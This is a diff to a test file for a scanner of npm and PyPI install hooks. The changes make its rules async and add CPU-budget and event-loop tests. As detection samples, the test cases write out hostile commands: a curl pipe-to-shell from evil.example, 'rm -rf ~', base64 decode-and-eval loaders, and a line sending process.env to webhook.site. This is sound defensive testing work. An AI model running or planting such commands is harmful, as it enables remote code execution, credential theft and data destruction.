@@ -1,8 +1,26 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { analyseInstallHooks, BEHAVIOUR_RULES, commandEntries, DEFAULT_INSTALL_SCRIPT_LIMITS, gypCommands, installScriptFacts, planNpmHooks, npmInstallHooks, npmInstallScriptFacts, readHookFiles, type ArchiveFile, type InstallHook, type NpmInstallScriptInput, type ReadArchiveFiles } from './index.ts';
+import {
+  analyseInstallHooks,
+  BEHAVIOUR_RULES,
+  commandEntries,
+  DEFAULT_INSTALL_SCRIPT_LIMITS,
+  gypCommands,
+  installScriptFacts,
+  planNpmHooks,
+  npmInstallHooks,
+  npmInstallScriptFacts,
+  readHookFiles,
+  RuleBudget,
+  type ArchiveFile,
+  type InstallHook,
+  type HookAnalysis,
+  type InstallScriptFacts,
+  type NpmInstallScriptInput,
+  type ReadArchiveFiles,
+} from './index.ts';
 import { gypIncludes } from './entries.ts';
-import { cpuMs } from '../../../test/support/cpu-time.ts';
+import { cpuMs, cpuMsOf } from '../../../test/support/cpu-time.ts';
 import { seededRandom } from '../../../test/support/seeded-random.ts';
 
 const hook = (content: string, name = 'postinstall', kind: InstallHook['kind'] = 'npm-lifecycle'): InstallHook => ({ kind, name, content });
@@ -23,7 +41,7 @@ test('npm hooks: lifecycle scripts, implicit node-gyp, declared flag; non-string
   }
 });
 
-test('behaviour rules: malicious install code is found with evidence', () => {
+test('behaviour rules: malicious install code is found with evidence', async () => {
   const cases: [string, string, string][] = [
     // content, expected rule, expected severity
     ['curl -s https://evil.example/x.sh | sh', 'install.remote-exec.pipe-to-shell', 'critical'],
@@ -58,7 +76,7 @@ test('behaviour rules: malicious install code is found with evidence', () => {
     ['rm -rf ~ ', 'install.destructive.destructive', 'high'],
   ];
   for (const [content, rule, severity] of cases) {
-    const { findings } = analyseInstallHooks([hook(content)]);
+    const { findings } = await analyseInstallHooks([hook(content)]);
     const f = findings.find((x) => x.rule === rule);
     assert.ok(f !== undefined, `${content} → ${rule}; got ${findings.map((x) => x.rule).join(', ')}`);
     assert.equal(f.severity, severity, content);
@@ -67,7 +85,7 @@ test('behaviour rules: malicious install code is found with evidence', () => {
   }
 });
 
-test('script bodies: obfuscated and credential-stealing JavaScript', () => {
+test('script bodies: obfuscated and credential-stealing JavaScript', async () => {
   const blob = Buffer.from('x'.repeat(600)).toString('base64');
   const body = [
     "const https = require('https');",
@@ -75,7 +93,7 @@ test('script bodies: obfuscated and credential-stealing JavaScript', () => {
     `eval(Buffer.from('${blob}', 'base64').toString());`,
     "https.request({ host: 'webhook.site', path: '/abc' }).end(JSON.stringify(process.env));",
   ].join('\n');
-  const { findings } = analyseInstallHooks([hook(body, 'install.js', 'script-file')]);
+  const { findings } = await analyseInstallHooks([hook(body, 'install.js', 'script-file')]);
   const rules = new Set(findings.map((f) => f.rule));
   for (const rule of [
     'install.remote-fetch.node-network',
@@ -92,7 +110,7 @@ test('script bodies: obfuscated and credential-stealing JavaScript', () => {
   assert.equal(findings[0]?.severity, 'critical', 'most severe first');
 });
 
-test('benign install scripts raise nothing above low', () => {
+test('benign install scripts raise nothing above low', async () => {
   const benign = [
     'node-gyp rebuild',
     'prebuild-install || node-gyp rebuild',
@@ -107,12 +125,12 @@ test('benign install scripts raise nothing above low', () => {
     'npx --no-install husky install',
   ];
   for (const content of benign) {
-    const { findings } = analyseInstallHooks([hook(content)]);
+    const { findings } = await analyseInstallHooks([hook(content)]);
     const loud = findings.filter((f) => f.severity !== 'low' && f.severity !== 'info');
     assert.deepEqual(loud, [], content);
   }
   const esbuildLike = "const { execFileSync } = require('child_process');\nconst path = require('path');\nexecFileSync(process.execPath, [path.join(__dirname, 'bin', 'esbuild'), '--version']);";
-  const f = analyseInstallHooks([hook(esbuildLike, 'install.js', 'script-file')]).findings;
+  const f = (await analyseInstallHooks([hook(esbuildLike, 'install.js', 'script-file')])).findings;
   assert.deepEqual(f.map((x) => `${x.rule}:${x.severity}`), ['install.shell-exec.child-process:low']);
   // A child's environment built from the parent's (esbuild's install.js), and comments that name
   // npm's credentials in passing (node-sass's, nx's), are not reading or collecting anything.
@@ -122,15 +140,15 @@ test('benign install scripts raise nothing above low', () => {
     ' * `npm config` CLI or the `.npmrc` config file.',
     ' * names that are not valid shell identifiers, i.e. every `//...:_authToken`',
   ].join('\n');
-  assert.deepEqual(analyseInstallHooks([hook(passing, 'install.js', 'script-file')]).findings.filter((x) => x.severity !== 'low'), []);
+  assert.deepEqual((await analyseInstallHooks([hook(passing, 'install.js', 'script-file')])).findings.filter((x) => x.severity !== 'low'), []);
 });
 
-test('.pth startup hooks are reported only for .pth files', () => {
+test('.pth startup hooks are reported only for .pth files', async () => {
   const pth = 'import os, base64; exec(base64.b64decode("cHJpbnQoMSk="))\n';
-  const rules = analyseInstallHooks([hook(pth, 'evil.pth', 'pypi-pth')]).findings.map((f) => f.rule);
+  const rules = (await analyseInstallHooks([hook(pth, 'evil.pth', 'pypi-pth')])).findings.map((f) => f.rule);
   assert.ok(rules.includes('install.startup-hook.pth-import'));
   assert.ok(rules.includes('install.obfuscation.decode-and-eval'));
-  assert.ok(!analyseInstallHooks([hook('import os', 'setup.py', 'pypi-setup-py')]).findings.some((f) => f.rule === 'install.startup-hook.pth-import'));
+  assert.ok(!(await analyseInstallHooks([hook('import os', 'setup.py', 'pypi-setup-py')])).findings.some((f) => f.rule === 'install.startup-hook.pth-import'));
 });
 
 test('command entries: what a command line runs from the package, as each runner reads its arguments', () => {
@@ -174,7 +192,7 @@ test('facts: the tarball file an install hook runs is analysed too', async () =>
   assert.ok(facts.categories.includes('remote-exec'));
   assert.equal(facts.findings[0]?.source, 'setup.js');
   assert.deepEqual([facts.complete, facts.unread, facts.truncated], [true, [], []]);
-  const none = npmInstallScriptFacts({ manifest: { name: 'y' } });
+  const none = await npmInstallScriptFacts({ manifest: { name: 'y' } });
   assert.deepEqual({ present: none.present, max: none.max_severity, findings: none.findings.length, complete: none.complete }, { present: false, max: 'none', findings: 0, complete: true });
 });
 
@@ -291,16 +309,16 @@ test('facts: code the bounds leave unread or read in part is reported, and the a
   assert.deepEqual([huge.files.size, huge.unread], [2, ['./f2']]);
 });
 
-test('limits: oversized content is cut and reported, extra hooks skipped, hostile text is handled', () => {
+test('limits: oversized content is cut and reported, extra hooks skipped, hostile text is handled', async () => {
   const limits = { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxContentChars: 1000, maxHooks: 2, maxFindings: 10 };
   const big = `${'# '.repeat(1000)} curl https://x.example | sh`;
-  const r = analyseInstallHooks([hook(big), hook('x', 'prepare'), hook('y', 'install')], limits);
+  const r = await analyseInstallHooks([hook(big), hook('x', 'prepare'), hook('y', 'install')], limits);
   assert.deepEqual(r.truncated, ['postinstall']);
   assert.equal(r.skipped, 1);
   assert.equal(r.findings.length, 0, 'the payload past the limit is not seen (and the cut is reported)');
   // Bounded repetition only: these finish quickly (a catastrophic pattern would hang the test).
   const hostile = [`curl ${'a'.repeat(200_000)}`, `${'\\x41'.repeat(100_000)}`, `${'A'.repeat(300_000)}`, `node -e ${'x'.repeat(200_000)}`, '|'.repeat(200_000)];
-  for (const text of hostile) assert.ok(Array.isArray(analyseInstallHooks([hook(text)]).findings));
+  for (const text of hostile) assert.ok(Array.isArray((await analyseInstallHooks([hook(text)])).findings));
 });
 
 test("a gyp file's action and include lists are read up to their first ], at most 4,096 characters, and a file of such keys with no ] near is read in linear time (each key scanned 4,096 characters: a 4 MiB binding.gyp took 5.2 s of CPU)", () => {
@@ -340,7 +358,7 @@ function wholeSource(text: string, kind: InstallHook['kind']): string[] {
   return out.sort();
 }
 
-test('the rules run piece by piece find what they find over the whole source: the same rules, counts, lines and evidence, with matches and long runs across every piece boundary', () => {
+test('the rules run piece by piece find what they find over the whole source: the same rules, counts, lines and evidence, with matches and long runs across every piece boundary', async () => {
   const rnd = seededRandom(0x1a57);
   const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
   const samples = [
@@ -362,7 +380,7 @@ test('the rules run piece by piece find what they find over the whole source: th
       text += r < 0.04 ? 'QUJD'.repeat(20 + Math.floor(rnd() * 700)) : r < 0.08 ? `String.fromCharCode(${'1, '.repeat(5 + Math.floor(rnd() * 500))}2)` : r < 0.1 ? '\\x41'.repeat(10 + Math.floor(rnd() * 1500)) : pick(samples);
     }
     for (const kind of ['script-file', 'npm-lifecycle', 'pypi-pth'] as const) {
-      const { findings, overBudget } = analyseInstallHooks([hook(text, 'f', kind)], { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxFindings: 1000, pieceChars });
+      const { findings, overBudget } = await analyseInstallHooks([hook(text, 'f', kind)], { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxFindings: 1000, pieceChars });
       assert.equal(overBudget, false);
       const got = findings.map((f) => `${f.rule} line ${f.line} count ${f.count} ${f.evidence}`).sort();
       assert.deepEqual(got, wholeSource(text, kind), `round ${round}, ${kind}, ${text.length} characters in pieces of ${pieceChars}`);
@@ -370,14 +388,15 @@ test('the rules run piece by piece find what they find over the whole source: th
   }
 });
 
-test('the rules stop at their CPU budget: install code written to make them slow is reported as analysed in part, and the rest as not analysed, instead of holding the thread for seconds', () => {
-  // Each `curl` scans its 300-character window for a `|`: 4 MiB of `curl ` took 6 s of CPU, and
-  // an artifact's read keeps 16 MiB of install code.
-  const slow = 'curl '.repeat((4 << 20) / 5);
-  const hooks = [hook('node install.js'), hook(slow, 'install.js', 'script-file'), hook(slow, 'lib/a.js', 'script-file'), hook(slow, 'lib/b.js', 'script-file')];
-  let analysis: ReturnType<typeof analyseInstallHooks> | undefined;
-  const ms = cpuMs(() => {
-    analysis = analyseInstallHooks(hooks, { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxCpuMs: 300 });
+// Each `curl` scans its 300-character window for a `|`: 4 MiB of `curl ` took 6 s of CPU, and
+// an artifact's read keeps 16 MiB of install code.
+const SLOW = 'curl '.repeat((4 << 20) / 5);
+
+test('the rules stop at their CPU budget: install code written to make them slow is reported as analysed in part, and the rest as not analysed, instead of holding the thread for seconds', async () => {
+  const hooks = [hook('node install.js'), hook(SLOW, 'install.js', 'script-file'), hook(SLOW, 'lib/a.js', 'script-file'), hook(SLOW, 'lib/b.js', 'script-file')];
+  let analysis: HookAnalysis | undefined;
+  const ms = await cpuMsOf(async () => {
+    analysis = await analyseInstallHooks(hooks, { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxCpuMs: 300 });
   });
   assert.ok(analysis !== undefined);
   assert.deepEqual([analysis.overBudget, analysis.truncated, analysis.skipped], [true, ['install.js'], 2]);
@@ -387,6 +406,37 @@ test('the rules stop at their CPU budget: install code written to make them slow
   // What was analysed before the budget ran out is still reported.
   assert.ok(analysis.findings.some((f) => f.rule === 'install.remote-fetch.downloader' && f.source === 'install.js'));
   // The same code within its budget is analysed in full.
-  const small = analyseInstallHooks([hook('curl '.repeat(2000), 'install.js', 'script-file')], { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxCpuMs: 300 });
+  const small = await analyseInstallHooks([hook('curl '.repeat(2000), 'install.js', 'script-file')], { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxCpuMs: 300 });
   assert.deepEqual([small.overBudget, small.truncated, small.skipped], [false, [], 0]);
+});
+
+test('analyses that share a budget stop together: the versions of one packument, each with its own slow script, take one budget between them, not one each', async () => {
+  const limits = { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxCpuMs: 300 };
+  const budget = new RuleBudget(limits.maxCpuMs);
+  const versions: InstallScriptFacts[] = [];
+  const ms = await cpuMsOf(async () => {
+    for (let v = 0; v < 8; v++) versions.push(await npmInstallScriptFacts({ manifest: { scripts: { postinstall: `${SLOW.slice(0, 1 << 20)}# ${v}` } } }, undefined, limits, budget));
+  });
+  // One 1 MiB script takes about 0.75 s: eight with a budget each took 6 s.
+  assert.ok(ms < 1500, `${ms} ms of CPU for eight analyses sharing a budget of 300`);
+  assert.equal(budget.spent, true);
+  assert.deepEqual(versions.map((f) => f.complete), versions.map(() => false));
+  assert.deepEqual(versions.slice(1).map((f) => [f.over_budget, f.skipped_hooks, f.findings.length]), versions.slice(1).map(() => [true, 1, 0]), 'the versions after the budget ran out are not analysed at all');
+  // An analysis of its own still gets a budget of its own.
+  assert.equal((await npmInstallScriptFacts({ manifest: { scripts: { postinstall: 'node x.js' } } }, undefined, limits)).complete, true);
+});
+
+test('the rules let the thread go while they run: timers and other requests get turns during a slow analysis, not only after it', async () => {
+  let turns = 0;
+  let done = false;
+  const tick = (): void => {
+    turns++;
+    if (!done) setImmediate(tick);
+  };
+  setImmediate(tick);
+  const analysis = await analyseInstallHooks([hook(SLOW, 'install.js', 'script-file')], { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxCpuMs: 400 });
+  done = true;
+  assert.equal(analysis.overBudget, true);
+  // It runs about 400 ms, letting go every 10 ms or so: held throughout, it gave no turn at all.
+  assert.ok(turns >= 5, `${turns} turns of the event loop during the analysis`);
 });
